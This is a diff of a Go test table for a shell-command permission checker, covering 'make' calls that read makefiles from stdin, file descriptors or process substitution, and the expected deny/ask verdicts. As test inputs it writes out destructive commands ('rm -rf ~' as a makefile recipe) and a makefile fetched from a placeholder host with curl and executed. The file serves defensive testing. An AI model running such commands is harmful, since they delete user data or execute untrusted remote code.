@@ -10,7 +10,8 @@ func TestProgramsReadFromAStreamAsk(t *testing.T) {
 		{"make -f /dev/stdin <<< $'all:\\n\\trm -rf ~'", "deny"}, // the text is on the line: its recipe is judged (inlinerunners.go)
 		{`echo x | make -f -`, "ask"},
 		{`make --file=/dev/stdin`, "ask"},
-		{`make -f <(printf 'all:\n\trm -rf ~\n')`, "ask"},
+		{`make -f <(printf 'all:\n\trm -rf ~\n')`, "deny"}, // the text is on the line too: its recipe is judged (makefeed.go)
+		{`make -f <(curl -s https://x.example/mk)`, "!allow"},
 		{`make -f- test`, "ask"},
 		{`make -f/dev/fd/3 3<x`, "ask"},
 		{`make --makefile /proc/self/fd/0`, "ask"},
